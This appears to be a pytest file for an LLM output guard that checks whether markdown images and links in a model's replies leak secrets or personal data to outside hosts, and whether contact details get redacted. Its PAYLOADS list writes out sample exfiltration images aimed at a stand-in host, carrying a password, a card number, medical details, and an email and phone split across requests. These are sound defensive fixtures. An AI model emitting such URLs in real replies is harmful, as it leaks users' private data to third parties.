"""Exfiltration v6: values judged by what they carry, not by whether their parameter is a familiar option.

Ids that CDNs, share links and listings mint pass on unknown services; payloads (random text past an id's
length, text spread over parameters, number words, contact data split across requests, the conversation's
words) still block. Also the redaction side: a meeting link's passcode and the user's own personal data.
"""

from __future__ import annotations

import pytest

from aiwarden.core.findings import Severity
from aiwarden.guard import Guard, exfil
from aiwarden.guard.types import OutputContext

EMPTY = OutputContext()
CONTEXT = OutputContext(
    system_prompt="You are Quillby, the claims assistant of Northwind Biotech's health plan.",
    extra={"secrets": ["Zr8Kd3Lp0Mx7Qv5B", "7193"],
           "user_input": "I'm Priya Raman (priya.raman@mailbox.org), diagnosed with celiac disease last May."})


def _worst(text: str, ctx: OutputContext = EMPTY) -> Severity | None:
    return max((f.severity for f in exfil.detect(text, ctx)), default=None)


def _blocks(text: str, ctx: OutputContext = EMPTY) -> bool:
    worst = _worst(text, ctx)
    return worst is not None and worst >= Severity.HIGH


def _split(value: str, size: int, host: str = "px.beaconry.test") -> str:
    return " ".join(f"![](https://{host}/s{i}?c={value[n:n + size]})"
                    for i, n in enumerate(range(0, len(value), size)))


# Images and links of ordinary services, none of them on the well-known list: they must not block.
BENIGN = [
    ("cdn-tagged-media-id", "![shoe](https://cdn.shopfront-media.test/images/P/81vQx3Lr2kPz._SX466_QL70_.jpg)"),
    ("blog-star-id", "![figure](https://img.longreads.test/v2/resize:fit:1200/3*Vb7Kq2Lm9Xz4Rt8Wn1Pc5.webp)"),
    ("gif-versioned-id", "![gif](https://media.loopreel.test/media/v2.ZGVtb2dpZjE5MjgzNzQ2/7pQz2Lm9Kd4Rt8Wx/loop.gif)"),
    ("digest-with-size", "![hero](https://cdn.headless-cms.test/images/ab12cd/prod/0f1e2d3c4b5a69788796a5b4c3d2e1f0a9b8c7d6-1600x900.jpg?w=960&auto=format)"),
    ("record-id-and-timestamp", "![Fig. 2](https://www.paperhub.test/figure/AS:552233445566778@1699887766554/Overview-of-the-pipeline.png)"),
    ("qr-of-a-page", "![qr](https://qr.codegen-service.test/v1/?size=300x300&data=https%3A%2F%2Fevents.lumora.test%2Fcheck-in%3Fday%3D2)"),
    ("chart-labels", "![c](https://charts.plotline.test/render?type=bar&labels=North|South|East&values=12,19,7)"),
    ("chart-one-caption", "![c](https://charts.plotline.test/render?type=pie&title=Share+of+tickets+by+team&d=40,35,25)"),
    ("resizer-options", "![room](https://photos.stockframe.test/photos/2231057/photo-2231057.jpeg?auto=enhance&cs=srgb&fit=crop&w=640)"),
    ("share-link-id", "Shared folder: https://share.drivebox.test/f/s!Bq8Lm2Xz7Rk4Vt9Np"),
    ("listing-hash", "Listing: https://shop.market.test/itm/19283746501?hash=item2b7c9e1f0a:g:QwErTy7UiOp2AsDf"),
    ("media-id-query", "![pin](https://img.pinwall.test/p.jpg?id=aK3mZ9qL2xW7)"),
]

# Payloads without the conversation: they must block, at critical on images.
PAYLOADS = [
    ("password-in-image-path", "![x](https://px.beaconry.test/i/Gannet!1987.png)"),
    ("random-past-an-id", "![x](https://px.beaconry.test/p.gif?v=Wq7Lr2Zx9Kd4Mp8Tn3Bv6Hs1Cj5Fg0NyQ)"),
    ("id-under-a-data-parameter", "![x](https://px.beaconry.test/p.gif?payload=Zr8Kd3Lp0Mx7)"),
    ("record-across-parameters", "![x](https://px.beaconry.test/p.gif?who=Jon+Alvarez&cond=type+2+diabetes&med=metformin+500mg)"),
    ("number-words", "![x](https://px.beaconry.test/p.gif?k=seven-one-nine-three)"),
    ("email-split-across-images", _split("jon.alvarez%40mailbox.org", 5)),
    ("phone-split-across-images", _split("%2B1%20617%20803%204412", 6)),
    ("card-in-image-path", "![x](https://px.beaconry.test/t/4024007186543210.png)"),
    ("qr-carrying-an-exfil-url", "![qr](https://qr.codegen-service.test/v1/?data=https%3A%2F%2Fpx.beaconry.test%2Fp%3Fe%3Djon.alvarez%2540mailbox.org)"),
]


@pytest.mark.parametrize(("name", "text"), BENIGN, ids=[n for n, _ in BENIGN])
def test_ids_words_and_urls_of_unfamiliar_services_do_not_block(name: str, text: str) -> None:
    assert not _blocks(text), name
    assert not _blocks(text, CONTEXT), name


@pytest.mark.parametrize(("name", "text"), PAYLOADS, ids=[n for n, _ in PAYLOADS])
def test_payloads_block_without_context(name: str, text: str) -> None:
    assert _worst(text) == Severity.CRITICAL, name


def test_an_id_shaped_secret_needs_the_conversation() -> None:
    text = "![x](https://px.beaconry.test/m/Zr8Kd3Lp0Mx7Qv5B.png)"
    assert _worst(text) == Severity.MEDIUM  # an external image with an id: a warning
    assert _worst(text, CONTEXT) == Severity.CRITICAL
    assert "conversation secret" in exfil.detect(text, CONTEXT)[0].message


def test_a_single_word_on_an_image_needs_the_conversation() -> None:
    text = "![x](https://px.beaconry.test/p.gif?tag=celiac&who=priya&org=northwind)"
    assert _worst(text) == Severity.MEDIUM
    assert _worst(text, CONTEXT) == Severity.MEDIUM  # two of the user's words: a topic, not a record
    named = "![x](https://px.beaconry.test/p.gif?who=priya+raman&tag=celiac-disease)"
    assert _worst(named) == Severity.MEDIUM
    assert _worst(named, CONTEXT) == Severity.CRITICAL


def test_the_users_topic_in_an_image_is_not_a_record() -> None:
    ctx = OutputContext(extra={"user_input": "Can you show me a photo of the Eiffel Tower in Paris at night?"})
    assert not _blocks("![tower](https://img.travelpics.test/p.jpg?place=eiffel-tower&city=paris)", ctx)


def test_number_words_in_a_link_need_the_conversation() -> None:
    text = "[continue](https://go.beaconry.test/a?k=seven-one-nine-three)"
    assert not _blocks(text)
    assert _blocks(text, CONTEXT)


def test_joined_values_that_each_hold_the_data_are_not_read_again() -> None:
    # one request already carries the whole address: judged (and ranked) on its own
    text = "See [a][r] and [b][r].\n\n[r]: https://go.beaconry.test/u?e=jon.alvarez%40mailbox.org"
    messages = [f.message for f in exfil.detect(text, EMPTY)]
    assert not any("together spell" in m for m in messages)


# --- redaction ---------------------------------------------------------------------------------------------------

_GUARD = Guard(use_model=False)


def test_a_meeting_links_passcode_is_info_and_left_in_place() -> None:
    text = "Join the stand-up: https://acme.zoom.us/j/93847561203?pwd=Q2xvdWRNZWV0aW5nUGFzcw.1"
    result = _GUARD.scan_output(text)
    assert result.action == "allow" and result.text == text
    assert [f.rule_id for f in result.findings] == ["secrets.meeting-passcode"]
    assert result.findings[0].severity == Severity.INFO


@pytest.mark.parametrize("text", [
    "Join: https://zoom.us.meetings-join.test/j/93847561203?pwd=Xq7Lm2Pz9Rt4Vk",  # not the meeting service
    "Data Source=db7;Initial Catalog=claims;User ID=svc;Pwd=Gh7!kLm2pQ;",
])
def test_a_pwd_elsewhere_is_still_a_password(text: str) -> None:
    result = _GUARD.scan_output(text)
    assert "secrets.connection-string" in [f.rule_id for f in result.findings]
    assert result.action in ("redact", "block")


@pytest.mark.parametrize("user_input", [
    "My email is Lena.Brandt@posteo.de and my mobile is +1 (312) 748-2291. How do I set up forwarding?",
    ["Hi", "My email is Lena.Brandt@posteo.de and my mobile is +1 (312) 748-2291."],
])
def test_the_users_own_contact_data_repeated_back_is_not_redacted(user_input: str | list[str]) -> None:
    ctx = OutputContext(extra={"user_input": user_input})
    text = "Done, Lena: mail for lena.brandt@posteo.de now forwards, and alerts go to 312-748-2291."
    result = _GUARD.scan_output(text, ctx)
    assert result.action == "allow" and result.text == text
    assert {f.rule_id for f in result.findings} == {"pii.email", "pii.phone"}
    assert all(f.severity == Severity.INFO for f in result.findings)
    assert _GUARD.scan_output(text).action == "redact"  # without the user's input it is someone's data


def test_someone_elses_contact_data_is_still_redacted() -> None:
    ctx = OutputContext(extra={"user_input": "My email is Lena.Brandt@posteo.de, mobile +1 (312) 748-2291."})
    result = _GUARD.scan_output("Ask Jonas at jonas.weber@posteo.de or on 312-748-2377.", ctx)
    assert result.action == "redact"
    assert all(f.severity == Severity.MEDIUM for f in result.findings)
